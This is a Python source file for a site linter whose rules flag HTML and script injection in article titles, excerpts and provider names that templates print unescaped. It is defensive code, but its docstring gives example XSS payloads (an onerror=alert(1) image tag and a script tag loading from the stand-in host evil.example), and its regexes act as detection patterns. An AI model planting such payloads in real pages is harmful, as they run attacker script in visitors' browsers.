"""Markup: HTML written into texts that the site's templates print without escaping."""

from __future__ import annotations

import re

from linter.model import Severity
from linter.regex import lazy
from linter.rules.base import Context, Facts, Hit, entries, facts, rule, shared
from linter.values import shown

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Iterator, List, Optional, Tuple

    from linter.model import DataPath
    from linter.rules.base import Article

#: A tag as a browser reads it: '<', a name, anything up to '>' ("a<b and c>d" is a <b> tag).
_TAG = lazy(r"<(/?)([A-Za-z][A-Za-z0-9-]*)(?=[\s/>])[^<>]*>?")
#: Elements that run code or load another document, even before their '>' is written.
_DANGEROUS_ELEMENT = lazy(r"<(script|iframe|frame|frameset|object|embed|style)(?=[\s/>]|\Z)", re.I)
#: Inside a tag: an event handler attribute (onerror=, onload =) or a script URL.
_DANGEROUS_ATTRIBUTE = lazy(r"[\s/](on[a-z]+)\s*=|(?:java|vb)script\s*:", re.I)
_LABELS = {"title": "title", "excerpt": "excerpt", "name": "provider name"}


def text_fields(article: Article, context: Context) -> List[Tuple[DataPath, str]]:
    """Texts the templates print as they are, that hold a '<': the title, excerpt and
    provider name of the article and of each related item."""
    found = []
    for entry in entries(article, context):
        for key in ("title", "excerpt"):
            value = entry.data.get(key)
            if isinstance(value, str) and "<" in value:
                found.append((entry.path + (key,), value))
        name = entry.provider.get("name") if entry.provider is not None else None
        if isinstance(name, str) and "<" in name:
            found.append((entry.path + ("provider", "name"), name))
    return found


def no_markup(look: Facts, context: Context) -> bool:
    """H001 and H002's screen: no text of the article holds a '<' (few do)."""
    return "<" not in look.texts


@shared
def _marked_texts(article: Article, context: Context) -> List[Tuple[DataPath, str]]:
    """``text_fields``, walked only when a text of the article holds a '<'."""
    return [] if no_markup(facts(article, context), context) else text_fields(article, context)


def dangerous_markup(text: str) -> Optional[Tuple[int, str]]:
    """(index, what) of the first markup that runs code or loads a document, else None."""
    element = _DANGEROUS_ELEMENT.search(text)
    if element is not None:
        return element.start(), f"the element <{element.group(1).lower()}>"
    for tag in _TAG.finditer(text):
        attribute = _DANGEROUS_ATTRIBUTE.search(tag.group())
        if attribute is not None:
            handler = attribute.group(1)
            what = f"the event handler {handler.lower()}=" if handler else "a script URL"
            return tag.start(), f"{what} in the tag <{tag.group(2).lower()}>"
    return None


def _label(path: DataPath) -> str:
    label = _LABELS[str(path[-1])]
    return f"related item {int(path[1]) + 1} {label}" if path[0] == "related" else label


@rule("H001", "dangerous-markup", screen=no_markup)
def dangerous_markup_in_text(article: Article, context: Context) -> Iterator[Hit]:
    """A title, excerpt or provider name holds HTML that runs code (`<script`, `onerror=`).

    Reported for `<script`, `<iframe`, `<frame`, `<style`, `<object` and `<embed`, and for
    event-handler attributes (`onerror=`, `onload=`) and `javascript:` URLs inside a tag.

    **Why**: real excerpts carry HTML entities (`&#8217;`), so the site's templates print
    titles and excerpts without escaping them: markup in them is written into every page
    that shows the article (its own page, lists, related boxes) and the browser runs it.

    **Jekyll**: Jekyll copies the text into the page as it is; nothing on the way removes
    or escapes it.

    **Example** (fails): `title: "Storm warning <img src=x onerror=alert(1)>"`,
    `excerpt: "<script src=//evil.example/x.js></script>Read more"`.

    **Fix**: remove the markup; write `<` as `&lt;` if the text really names a tag.
    """
    for path, text in _marked_texts(article, context):
        found = dangerous_markup(text)
        if found is not None:
            index, what = found
            yield Hit(path, f"{_label(path)} contains {what} at character {index + 1}; pages print it unescaped")


@rule("H002", "markup-in-text", Severity.WARNING, screen=no_markup)
def markup_in_text(article: Article, context: Context) -> Iterator[Hit]:
    """A title, excerpt or provider name holds an HTML tag (`<b>`, `<br>`, `</p>`, `<a href>`).

    **Why**: the site's templates print these texts without escaping (see H001), so a tag
    changes the page: an unclosed `<b>` or `<a>` runs on into the rest of the page, and
    feeds and search results that do escape show the raw tag.

    **Jekyll**: Jekyll copies the text into the page as it is.

    **Example** (fails): `title: "Markets <b>rally</b> again"`.

    **Fix**: remove the tag; write `<` as `&lt;` if the text really names a tag.
    """
    for path, text in _marked_texts(article, context):
        tag = _TAG.search(text)
        if tag is not None and dangerous_markup(text) is None:
            written = shown(tag.group(), path)
            yield Hit(path, f"{_label(path)} contains the HTML tag {written} at character {tag.start() + 1}")
